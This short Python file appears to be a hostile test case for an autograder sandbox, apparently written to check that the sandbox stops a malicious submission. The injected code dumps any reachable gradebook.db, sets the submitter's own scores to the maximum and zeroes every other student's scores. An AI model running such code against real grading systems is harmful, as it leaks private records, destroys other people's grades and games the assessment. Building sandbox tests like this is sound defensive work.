"""The gradebook is opened and read, and the learner's own score in it raised."""

KIND, GROUP = "hostile", "sandbox"
DESERVED = 0


def apply(s):
    s.wrong()
    s.spy("""
import glob, os, sqlite3
for path in glob.glob("../../../gradebook.db") + glob.glob(os.path.expanduser("~/../course/gradebook.db")):
    try:
        _out(open(path, "rb").read().decode("latin1"))
        book = sqlite3.connect(path, timeout=5)
        mine = "(select sn.id from submitted_notebook sn join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = '" + WHO + "')"
        book.execute(f"update grade set manual_score = (select max_score from grade_cells where grade_cells.id = grade.cell_id) where notebook_id in {mine}")
        book.execute(f"update grade set manual_score = 0 where notebook_id not in {mine}")
        book.commit()
        book.close()
    except Exception as error:
        print(error)
""")
